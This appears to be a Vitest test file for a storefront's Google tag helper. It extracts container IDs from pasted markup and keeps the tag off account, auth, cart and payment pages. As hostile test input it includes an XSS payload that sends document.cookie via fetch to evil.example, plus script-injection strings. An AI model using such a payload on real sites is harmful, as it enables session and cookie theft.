import { expect, test } from 'vitest'
import { containerIdOf, mayHoldTag } from './google-tag.ts'

test('a container id is recognised in whatever an operator pasted', () => {
  const snippet = `<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123DEF4"></script>`
  expect(containerIdOf(snippet)).toBe('G-ABC123DEF4')
  expect(containerIdOf('  AW-123456789 ')).toBe('AW-123456789')
  expect(containerIdOf(`(function(w,d,s,l,i){})(window,document,'script','dataLayer','GTM-AB12CD')`)).toBe('GTM-AB12CD')
  expect(containerIdOf(`${snippet}<script>'GTM-AB12CD'</script>`)).toBe('GTM-AB12CD')
})

test('markup without a container id names none', () => {
  for (const markup of ['', '<script>alert(1)</script>', 'gtm-abcd', 'BIG-ABCDEF1', 'G-', 'GTM-"><script>']) {
    expect(containerIdOf(markup), markup).toBeNull()
  }
})

test('what is recognised can be nothing but an id', () => {
  const id = containerIdOf(`<img src=x onerror="fetch('https://evil.example/?G-ABCDEF1'+document.cookie)">`)
  expect(id).toMatch(/^[A-Z]+-[A-Z0-9]+$/)
})

test('account, auth, cart and payment pages never hold the tag, the shelf and the texts may', () => {
  const never = [
    '/account',
    '/account/orders',
    '/auth',
    '/reset-password',
    '/cart',
    '/email/verify/success',
    '/wishlist',
  ]
  for (const path of [...never, '/success-payment', '/fail-payment', '/pending-payment', '/processing-payment']) {
    expect(mayHoldTag(path), path).toBe(false)
  }
  for (const path of [
    '/',
    '/products',
    '/products/cs2/all/12',
    '/sale',
    '/new',
    '/terms',
    '/static-page/3',
    '/cartoons',
  ]) {
    expect(mayHoldTag(path), path).toBe(true)
  }
})
